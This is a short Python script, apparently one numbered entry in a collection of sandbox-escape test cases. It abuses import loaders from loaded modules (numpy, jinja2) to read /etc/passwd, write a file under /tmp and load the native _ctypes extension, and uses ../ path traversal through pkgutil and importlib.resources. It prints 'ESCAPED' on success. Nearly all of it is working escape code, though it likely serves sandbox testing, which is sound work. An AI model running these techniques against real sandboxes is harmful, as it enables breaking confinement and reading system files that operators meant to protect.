# escape: 316
# packages: numpy, jinja2
# technique: a package's loader reads and loads files
# family: import
# goal: read-file
# first-seen: __loader__, __spec__, ExtensionFileLoader.create_module
import jinja2, numpy, sys
def go(f):
    try: value = f()
    except BaseException: return
    if b"root:" in bytes(str(value), "utf-8"): print("ESCAPED:" + str(value)[:40])
for module in list(sys.modules.values()):
    loader = getattr(module, "__loader__", None)
    spec = getattr(module, "__spec__", None)
    if loader is None or not hasattr(loader, "get_data"): continue
    go(lambda: loader.get_data("/etc/passwd"))
    go(lambda: type(loader)("m", "/etc/passwd").get_source("m"))
    go(lambda: type(loader)("m", "/etc/passwd").get_code("m"))
    go(lambda: loader.set_data("/tmp/escape-316", b"x"))
    go(lambda: loader.exec_module(module))
def native():
    from importlib.machinery import ExtensionFileLoader, ModuleSpec
    path = "/usr/lib/python3.11/lib-dynload/_ctypes.cpython-311-x86_64-linux-gnu.so"
    loader = ExtensionFileLoader("_ctypes", path)
    if loader.create_module(ModuleSpec("_ctypes", loader, origin=path)): print("ESCAPED:_ctypes")
go(native)
go(lambda: __import__("pkgutil").get_data("jinja2", "../../../../../etc/passwd"))
go(lambda: __import__("importlib.resources").resources.files("jinja2").joinpath("../../../../../etc/passwd").read_text())
